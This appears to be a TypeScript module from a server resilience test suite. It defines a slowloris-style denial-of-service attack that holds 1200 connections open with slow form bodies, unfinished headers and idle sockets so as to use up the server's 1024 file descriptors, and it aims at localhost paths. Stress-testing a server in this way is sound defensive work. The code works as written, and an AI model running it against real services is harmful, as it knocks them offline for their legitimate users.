/** Connections that are held open: with more of them than there are descriptors, nobody else could connect. */
import { setTimeout as sleep } from "node:timers/promises";
import type { Attack, AttackTarget } from "./attack.js";
import { ended, open } from "./sockets.js";

/** More than the server has descriptors. */
const connections = 1200;
const descriptorsMax = 1024;

/** Within the ten seconds that a server may wait for more of a request. */
const byteEveryMilliseconds = 5000;

/** How a connection is held. */
const beginnings: readonly string[] = [
  // A form for a token that never ends.
  "POST /token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60000\r\n\r\ng",
  // A head that never ends.
  "GET /v2/ HTTP/1.1\r\nHost: localhost\r\nX-Slow: ",
  // Nothing at all.
  "",
];

async function hold(target: AttackTarget, beginning: string): Promise<void> {
  while (!target.signal.aborted) {
    const socket = open(target);
    if (beginning !== "") socket.write(beginning);
    const drip = setInterval(() => beginning !== "" && socket.write("x"), byteEveryMilliseconds);
    await ended(socket);
    clearInterval(drip);
    // Whoever is refused tries again, and is not what the server is busy with.
    await sleep(100);
  }
}

export const descriptors: Attack = {
  name: "descriptors",
  what: `${connections} connections are held open by slow forms, slow headers and silence, with ${descriptorsMax} descriptors`,
  descriptorsMax,
  waitMillisecondsMax: 100,
  run: async (target) => {
    const holders = Array.from({ length: connections }, (_, index) =>
      hold(target, beginnings[index % beginnings.length] ?? ""),
    );
    await Promise.all(holders);
  },
};
